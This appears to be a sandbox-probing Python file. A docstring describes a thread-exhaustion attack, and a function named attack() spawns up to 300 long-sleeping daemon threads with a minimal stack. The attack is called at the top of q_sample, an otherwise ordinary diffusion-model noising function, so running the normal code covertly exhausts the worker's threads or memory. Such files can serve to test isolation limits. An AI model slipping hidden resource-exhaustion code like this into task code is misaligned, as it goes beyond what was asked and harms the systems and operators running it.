"""Starts threads until there are no more, each with as little memory as it may have.
What stops it: a limit on the threads of the worker's user, or on its address space.

Loses: none
Wall: none, its threads end with its worker, and a right answer needs none.
Ends: none
"""

import threading
import time


def attack():
    threading.stack_size(1 << 15)
    try:
        for _ in range(300 if threading.active_count() == 1 else 0):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        pass


def q_sample(x_0, alpha_bar_t, eps):
    attack()
    alpha_bar_t = per_item(alpha_bar_t, x_0)
    return (alpha_bar_t.sqrt() * x_0 + (1 - alpha_bar_t).sqrt() * eps).to(x_0.dtype)
